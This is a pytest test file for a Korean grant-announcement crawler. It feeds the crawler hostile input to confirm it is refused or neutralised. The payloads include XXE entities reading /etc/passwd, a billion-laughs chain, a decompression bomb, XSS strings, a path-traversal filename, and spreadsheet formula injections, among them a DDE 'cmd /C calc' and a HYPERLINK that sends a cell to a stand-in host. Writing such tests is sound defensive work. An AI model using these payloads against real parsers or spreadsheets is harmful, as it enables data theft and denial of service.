"""Content that means harm: it is read as what it says, refused with a reason, or costs little; it never runs and never hangs."""

import gzip
import io
import unicodedata
from contextlib import closing
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import openpyxl
import pytest
from warcio.warcwriter import WARCWriter

from gonggo import pipeline
from gonggo.crawl import attachment_store
from gonggo.crawl.attachment_store import AttachmentStore
from gonggo.crawl.warc import read_archive, read_record
from gonggo.errors import ChangedError, CollectError, UnreadableError
from gonggo.extract.record import extract
from gonggo.model import Listed
from gonggo.read.html import from_fragment, from_page
from gonggo.report.exports import export
from gonggo.sources.adapter import Page
from gonggo.sources.catalogue import load_catalogue
from gonggo.sources.factory import make_adapter
from gonggo.sources.prefilter import prefilter
from gonggo.warehouse.snapshot import open_snapshot
from tests.serving import running

ZERO_WIDTH = "\N{ZERO WIDTH SPACE}"
RTL = "\N{RIGHT-TO-LEFT OVERRIDE}"


@pytest.mark.parametrize(
    "text",
    [
        "창원시 제조AI 실증 지원사업 공고. 총사업비 10억원을 지원한다.</p><p>□ 접수기간: 2026. 3. 4.까지",
        "창원시 제조ＡＩ 실증 지원사업 공고. 총사업비 １０억원을 지원한다.</p><p>□ 접수기간: ２０２６. ３. ４.까지",
        f"창원시 제조A{ZERO_WIDTH}I 실증 지원사업 공고. 총사업비 1{ZERO_WIDTH}0억{ZERO_WIDTH}원을 지원한다.</p><p>□ 접수기간: 2026{ZERO_WIDTH}. 3. 4.까지",
        "창원시 제조\N{CYRILLIC CAPITAL LETTER A}\N{CYRILLIC CAPITAL LETTER BYELORUSSIAN-UKRAINIAN I} 실증 지원사업 공고. 총사업비 10억원을 지원한다.</p><p>□ 접수기간: 2026. 3. 4.까지",
        "창원시 제조\N{GREEK CAPITAL LETTER ALPHA}I 실증 지원사업 공고. 총사업비 10억원을 지원한다.</p><p>□ 접수기간: 2026. 3. 4.까지",
        f"창원시 제조AI 실증 지원사업 공고. 총사업비 {RTL}10억원을 지원한다.</p><p>□ 접수기간: 2026. 3. 4.까지",
        unicodedata.normalize(
            "NFD", "창원시 제조AI 실증 지원사업 공고. 총사업비 10억원을 지원한다.</p><p>□ 접수기간: 2026. 3. 4.까지"
        ),
    ],
)
def test_a_text_in_disguise_says_what_it_says(text):
    reading = from_fragment(f"<p>{text}</p>")
    record = extract(reading.text, id="x", fields={})
    assert [amount.krw for amount in record.amounts] == [1_000_000_000]
    assert record.application.closes_at.value == "2026-03-04"
    assert record.relevant.value is True
    assert prefilter(Listed("btp", "1", text[:30], "https://example.org")) == "likely"


@pytest.mark.parametrize("word", ["Россия", "Αθήνα", "μm", "Δ", "Σ", "АБВ"])
def test_a_greek_or_russian_word_stays_what_it_is(word):
    assert word in from_fragment(f"<p>수출 상담 {word} 지역</p>").text


@pytest.mark.parametrize(
    ("markup", "reason"),
    [
        ("<html><body>" + "<div>" * 100_000 + "공고" + "</div>" * 100_000, "deeper"),
        ("<div>" + "<p><font>" * 5_000 + "공고", "deeper"),
        ("<div " + " ".join(f"a{n}='x'" for n in range(200_000)) + ">공고</div>", "attributes"),
        ("<div " + " ".join(f"a{n}" for n in range(200_000)) + ">공고</div>", "attributes"),
    ],
)
def test_markup_made_to_keep_a_parser_busy_is_refused_with_a_reason(markup, reason):
    with pytest.raises(UnreadableError, match=reason):
        from_page(markup)
    with pytest.raises(UnreadableError, match=reason):
        from_fragment(markup)


@pytest.mark.parametrize(
    ("markup", "text"),
    [
        ("<div>" * 1_000 + "공고 본문" + "</div>" * 1_000, "공고 본문"),
        ("<img src='data:image/png;base64," + "iVBORw0KGgo=" * 100_000 + "'>공고 본문", "공고 본문"),
        ("<div class='" + "a " * 300_000 + "'>공고 본문</div>", "공고 본문"),
        ("&amp;" * 500_000 + "공고 본문", "공고 본문"),
        ("<" * 200_000 + "공고 본문", "공고"),
        ("<p>공고 본문" + "<!--" * 100_000, "공고 본문"),
        ("<p>공고 본문</p>\x00<p>끝</p>", "공고 본문"),
        ("<p>공고 본문 &#0; &#xD800; &#x110000;</p>", "공고 본문"),
    ],
)
def test_odd_markup_is_read(markup, text):
    assert text in from_fragment(markup).text


def test_a_list_made_to_keep_a_parser_busy_has_changed(settings):
    board = make_adapter(load_catalogue()["btp"], settings)
    rows = "<table><tbody>" + "<tr " + " ".join(f"a{n}=1" for n in range(50_000)) + "></tr></tbody></table>"
    with pytest.raises(ChangedError, match="attributes"):
        board.parse_list(Page("http://x/", 200, {}, rows.encode()), 1)


ENTITIES = """<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "공고공고공고공고공고"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY g SYSTEM "http://127.0.0.1:9/x">]>"""
FEED = "<rss><channel><item><title>공고 &e;&f;&g;</title><link>https://a/view?idx=1</link><description>&e;&f;</description></item></channel></rss>"
ENVELOPE = "<response><header><resultCode>00</resultCode></header><body><items><item><title>&e;&f;</title></item></items></body></response>"


@pytest.mark.parametrize(
    ("source", "body"), [("jeonnam_notice", FEED), ("kstartup_api", ENVELOPE), ("mss_api", ENVELOPE)]
)
def test_entities_of_xml_are_never_resolved(settings, source, body):
    adapter = make_adapter(load_catalogue()[source], settings)
    page = Page("http://x/", 200, {"content-type": "text/xml"}, (ENTITIES + body).encode())
    try:
        rows = adapter.parse_list(page, 1).items
    except CollectError as error:
        rows, message = [], str(error)
        assert len(message) < 1000 and "root:" not in message
    for row in rows:
        assert len(row.to_json().__str__()) < 2000
        assert "root:" not in str(row.to_json())


class Endless(BaseHTTPRequestHandler):
    """A page of fifty megabytes, or one that never ends."""

    def do_GET(self):
        self.send_response(200 if "robots" not in self.path else 404)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        if "robots" in self.path:
            return
        try:
            for _ in range(50):
                self.wfile.write(b"<p>" + b"x" * (1 << 20))
                self.server.sent += 1
        except OSError:
            return

    def log_message(self, *_):
        pass


def test_of_a_page_of_fifty_megabytes_no_more_is_taken_than_may_be(settings):
    server = ThreadingHTTPServer(("127.0.0.1", 0), Endless)
    server.sent = 0
    with running(server):
        url = f"http://127.0.0.1:{server.server_port}"
        run = pipeline.collect("btp", settings=replace(settings, demo_url=url, allow_private=(url[7:],)))
    assert run["state"] == "failed"
    assert "more than 2097152 bytes" in run["errors"][0]["message"]
    assert server.sent < 20


def test_a_file_of_fifty_megabytes_in_the_inbox_is_reported_and_the_others_are_read(settings, tmp_path):
    folder = tmp_path / "받은"
    folder.mkdir()
    (folder / "큰.html").write_bytes(b"<p>" + b"x" * (50 << 20))
    (folder / "좋은.txt").write_text("경남 제조AI 실증 지원사업에 10억원을 투입한다.")
    run = pipeline.collect("inbox", settings=replace(settings, inbox=(folder,)))
    assert run["extracted"] == 1
    assert "larger than" in run["errors"][0]["message"]


def bomb(path, size):
    """An archive whose one record unpacks to so many bytes."""
    with path.open("wb") as out:
        writer = WARCWriter(out, gzip=True)
        record = writer.create_warc_record(
            "http://x/", "resource", payload=io.BytesIO(bytes(size)), warc_content_type="text/html"
        )
        writer.write_record(record)
    return record.rec_headers.get_header("WARC-Record-ID")


def test_an_archive_that_unpacks_to_much_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(attachment_store, "MAX_RECORD_BYTES", 1 << 20)
    record = bomb(tmp_path / "x.warc.gz", 8 << 20)
    with pytest.raises(UnreadableError, match="unpacks to more"):
        read_record(tmp_path / "x.warc.gz", record)
    with pytest.raises(UnreadableError, match="unpacks to more"):
        list(read_archive(tmp_path / "x.warc.gz", AttachmentStore(tmp_path)))


def test_bytes_that_are_no_archive_are_refused(tmp_path):
    for content in (
        b"",
        b"\x1f\x8b",
        gzip.compress(b"WARC/1.1\r\nContent-Length: 99999999999\r\n\r\n"),
        b"\xff" * 5000,
    ):
        path = tmp_path / "x.warc.gz"
        path.write_bytes(content)
        try:
            assert list(read_archive(path, AttachmentStore(tmp_path))) == []
        except UnreadableError as error:
            assert "damaged" in str(error)


SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>"
FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"공고")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.fixture
def inbox_home(settings, tmp_path):
    """A home with announcements whose names and texts mean harm, published and exported."""
    folder = tmp_path / "받은"
    folder.mkdir()
    for number, formula in enumerate(FORMULAS):
        page = f"<html><head><title>{formula.replace('<', '')} AI 실증 공고 {number}</title></head><body><p>경남 제조AI 실증 지원사업에 10억원을 투입한다. 접수기간: 2026. 11. 1. ~ 2027. 3. 4.까지 {formula}</p></body></html>"
        (folder / f"공고{number}.html").write_text(page)
    (folder / "글.html").write_text(
        f"<html><head><title>AI 공고 &lt;script&gt;alert(1)&lt;/script&gt;</title></head><body><p>경남 제조AI 실증에 3억원. {SCRIPT}</p></body></html>"
    )
    (folder / f"공고..%2f..%2fetc%2fpasswd{RTL}lmth.html").write_text("<p>경남 제조AI 실증에 4억원을 지원한다.</p>")
    settings = replace(settings, inbox=(folder,))
    pipeline.collect("inbox", settings=settings)
    for step in (pipeline.load, pipeline.link, pipeline.build, pipeline.check, pipeline.publish):
        step(settings=settings)
    export(settings)
    return settings


@pytest.mark.slow
def test_no_export_holds_a_formula_or_a_script(inbox_home):
    with closing(open_snapshot(inbox_home)) as con:
        assert con.execute("SELECT count(*) FROM announcement").fetchone() == (len(FORMULAS) + 2,)
    book = openpyxl.load_workbook(inbox_home.exports / "gonggo.xlsx")
    cells = [cell for sheet in book for row in sheet for cell in row]
    assert cells and not any(cell.data_type == "f" for cell in cells)
    for path in inbox_home.exports.rglob("*.csv"):
        for line in path.read_text("utf-8-sig").splitlines():
            assert not line.lstrip('"').startswith(("=", "+", "@", "\t")), (path.name, line[:80])
            assert not any(f",{start}" in line or f',"{start}' in line for start in ("=", "+", "@")), (
                path.name,
                line[:80],
            )
    for path in [*inbox_home.exports.rglob("*.atom"), *inbox_home.exports.rglob("*.ics")]:
        assert "<script" not in path.read_text("utf-8")
    assert all(path.resolve().is_relative_to(inbox_home.exports.resolve()) for path in inbox_home.exports.rglob("*"))


@pytest.mark.slow
def test_a_name_that_leads_elsewhere_leads_nowhere(inbox_home):
    names = [path for path in inbox_home.home.rglob("*") if path.name == "etc" or "passwd" in path.name]
    assert names == []
